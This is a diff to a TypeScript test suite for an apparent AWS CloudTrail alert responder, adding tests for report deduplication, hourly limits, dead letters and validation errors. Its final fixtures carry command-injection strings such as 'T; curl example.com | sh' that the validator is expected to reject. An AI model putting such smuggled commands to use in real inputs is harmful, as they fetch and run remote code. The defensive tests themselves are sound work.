@@ -32,6 +32,7 @@ function worldOf(members: Partial<ResponderPorts> = {}): World {
   const ports: ResponderPorts = {
     verifyMac: async ({ mac }) => mac.every((byte) => byte === 1),
     countAction: async () => true,
+    admitReport: admitInMemory(),
     startExecution: async (machineArn, name, plan) => {
       started.push({ machineArn, name, plan });
     },
@@ -43,6 +44,20 @@ function worldOf(members: Partial<ResponderPorts> = {}): World {
     ...members,
   };
   return { ports, started, reports, notes };
+}
+
+/** What the table does: reports by action and hour. */
+function admitInMemory(): ResponderPorts['admitReport'] {
+  const hours = new Map<string, Map<string, boolean>>();
+  return async ({ action, alertId, signedMs, most, isMade }) => {
+    const hour = `${action} ${Math.floor(signedMs / 3_600_000)}`;
+    const known = hours.get(hour) ?? new Map<string, boolean>();
+    hours.set(hour, known);
+    if (!known.has(alertId) && known.size >= most) return 'over';
+    const wasMade = known.get(alertId) === true;
+    known.set(alertId, wasMade || isMade);
+    return wasMade ? 'made' : 'new';
+  };
 }
 
 function eventOf(alert: Alert, origin = ORIGIN, topicArn = settingsOf().topicArn): SNSEvent {
@@ -103,10 +118,54 @@ test.each([
     eventOf(ALERT, encodeOrigin({ signedAt: '2026-11-20T02:59:59.000Z', mac: Buffer.alloc(32, 1) })),
   ],
   ['came over another topic', eventOf(ALERT, ORIGIN, 'arn:aws:sns:eu-west-1:111122223333:other')],
-])('nothing is done about a message that %s', async (_name, event) => {
-  const { started, reports, notes } = await responded(event);
-  expect([started, reports]).toEqual([[], []]);
-  expect(notes).toEqual([expect.stringContaining('not proven')]);
+])('nothing is done about a message that %s, and it becomes a dead letter', async (_name, event) => {
+  const world = worldOf();
+  await expect(responded(event, [ACTING], world)).rejects.toThrow('not proven to be from trailwatch');
+  expect([world.started, world.reports]).toEqual([[], []]);
+});
+
+test('an alert that was not acted on is reported once, however often it arrives', async () => {
+  const world = worldOf();
+  const refused = eventOf(answeredAlert('start-logging', { eventName: 'DeleteTrail' }));
+  for (const _ of [1, 2, 3]) await responded(refused, [ACTING], world);
+  expect(world.reports).toHaveLength(1);
+});
+
+test('a report that could not be sent is sent when the alert arrives again', async () => {
+  const failing = { report: async () => Promise.reject(new Error('SNS')) };
+  const world = worldOf();
+  const refused = eventOf(answeredAlert('start-logging', { eventName: 'DeleteTrail' }));
+  const broken = { ...world, ports: { ...world.ports, ...failing } };
+  await expect(responded(refused, [ACTING], broken)).rejects.toThrow('SNS');
+  await responded(refused, [ACTING], world);
+  expect(world.reports).toHaveLength(1);
+});
+
+test('past the limit of the hour one report says that there are more, and the log has each', async () => {
+  const world = worldOf();
+  for (const id of ['a', 'b', 'c', 'd', 'd']) {
+    const alert = { ...answeredAlert('start-logging', { eventName: 'DeleteTrail' }), id };
+    await responded(eventOf(alert), [ACTING], world);
+  }
+  expect(world.reports.map(({ plan, why }) => [plan.alert.id, why])).toEqual([
+    ['a', expect.stringMatching(/^only StopLogging .*trail$/)],
+    ['b', expect.stringMatching(/trail$/)],
+    ['c', expect.stringMatching(/; the limit of 2 reports an hour is reached: further ones .* log .* only$/)],
+  ]);
+  expect(world.notes).toEqual(Array(3).fill('an alert was not answered, and not reported'));
+});
+
+test.each([
+  [{ outcome: 'zzz', plan: {} }, /^outcome "zzz" is none of a response$/],
+  [{ outcome: 'toString', plan: {} }, /^outcome "toString" is none of a response$/],
+  [
+    { outcome: 'done', plan: { action: 'toString', alert: {} } },
+    /no plan of Responder: action "toString" is none$/,
+  ],
+  [{ outcome: 'done', plan: { action: 'start-logging', alert: {} } }, /: alert\.id undefined is no text$/],
+  [{ outcome: 'done', plan: null }, /no plan of Responder: it is no object$/],
+])('fails in a sentence for a step %j', (step, message) => {
+  expect(() => toStepReport(step as never)).toThrow(message);
 });
 
 test('an alert whose signature could not be checked is tried again', async () => {
@@ -153,8 +212,12 @@ test('a step of a machine is reported with its error, and with the token that ap
 
 test.each([
   ['a token', { taskToken: 'T; curl example.com | sh' }, /taskToken is no token/],
-  ['a command that takes it back', { undo: 'aws x; curl example.com' }, /undo of the plan is no command/],
-  ['another program', { undo: 'curl example.com' }, /undo of the plan is no command/],
+  [
+    'a command that takes it back',
+    { undo: 'aws x; curl example.com' },
+    /plan of Responder: undo is no command/,
+  ],
+  ['another program', { undo: 'curl example.com' }, /plan of Responder: undo is no command/],
 ])(
   'fails on a forged step with %s that would run something else',
   (_name, { taskToken, undo }: { taskToken?: string; undo?: string }, message) => {
